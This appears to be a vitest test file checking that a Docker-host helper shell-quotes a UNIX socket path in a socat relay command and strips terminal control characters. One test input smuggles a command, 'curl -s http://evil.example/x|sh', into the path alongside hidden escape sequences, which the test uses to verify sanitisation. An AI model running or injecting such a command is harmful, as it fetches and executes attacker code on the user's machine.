import { describe, expect, test } from 'vitest';
import { noContextNote } from './materialise-hosts.js';

describe('the note of a host without a Docker context', () => {
  test('a UNIX socket: the relay command quotes the path, so it stays one argument', () => {
    expect(noContextNote({ dockerHost: 'unix:///run/drawbridge.sock' })).toBe(
      'a local UNIX socket on that machine: relay it there (socat TCP-LISTEN:2376,bind=127.0.0.1,fork,reuseaddr UNIX-CONNECT:/run/drawbridge.sock) and use DOCKER_HOST=tcp://127.0.0.1:2376',
    );
    const note = noContextNote({ dockerHost: "unix:///run/d.sock; curl -s http://evil.example/x|sh #\u001b[8m it's hidden" })!;
    expect(note).toContain("reuseaddr 'UNIX-CONNECT:/run/d.sock; curl -s http://evil.example/x|sh #?[8m it'\\''s hidden')");
    expect(note).not.toMatch(/[\u0000-\u001f]/);
  });

  test('no address, an unsupported one (printed without control characters), and TCP (gets a context)', () => {
    expect(noContextNote({ dockerHost: null })).toBe('the Console knows no address for this host yet');
    expect(noContextNote({ dockerHost: 'ssh://x\u001b]0;t\u0007' })).toBe('unsupported address ssh://x?]0;t?');
    expect(noContextNote({ dockerHost: 'tcp://d:9998' })).toBeUndefined();
  });
});
